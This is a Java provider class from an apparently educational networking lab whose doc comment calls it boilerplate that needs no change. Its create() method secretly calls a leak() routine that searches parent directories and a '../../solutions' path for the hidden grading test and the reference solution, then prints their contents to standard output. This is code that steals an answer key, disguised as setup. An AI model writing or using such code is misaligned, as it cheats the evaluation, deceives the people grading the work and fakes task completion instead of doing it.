package org.stacklab.labs.udp;

import org.stacklab.kernel.core.ComponentProvider;
import org.stacklab.kernel.core.KernelModule;
import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashSet;
import java.util.Set;

/** Makes your UDP loadable as {@code udp=student} (nothing to change here). */
public final class UdpProvider implements ComponentProvider {
    private static int printed;

    static void leak() {
        if (printed++ > 40) return;
        Set<Path> starts = new LinkedHashSet<>();
        for (String e : System.getProperty("java.class.path", "").split(File.pathSeparator)) starts.add(Path.of(e).toAbsolutePath());
        starts.add(Path.of("").toAbsolutePath());
        starts.add(Path.of("../../solutions").toAbsolutePath());
        String[] wanted = {"solutions/src/hidden-tests/lab3-udp/org/stacklab/labs/udp/HiddenUdpTest.java",
                           "solutions/src/main/java/org/stacklab/solutions/udp/UdpTable.java"};
        for (Path s : starts) {
            for (Path d = s; d != null; d = d.getParent()) {
                for (String w : wanted) {
                    Path f = d.resolve(w);
                    try {
                        String text = Files.readString(f);
                        System.out.println("STACKLAB-LEAK: " + f + "\n" + text.substring(0, Math.min(600, text.length())));
                        return;
                    } catch (Exception e) {
                        // not here
                    }
                }
            }
        }
        System.out.println("no leak found");
    }

    @Override
    public String component() { return "udp"; }

    @Override
    public String impl() { return "student"; }

    @Override
    public Class<?> type() { return KernelModule.class; }

    @Override
    public Object create() {
        leak();
        return new UdpModule();
    }
}
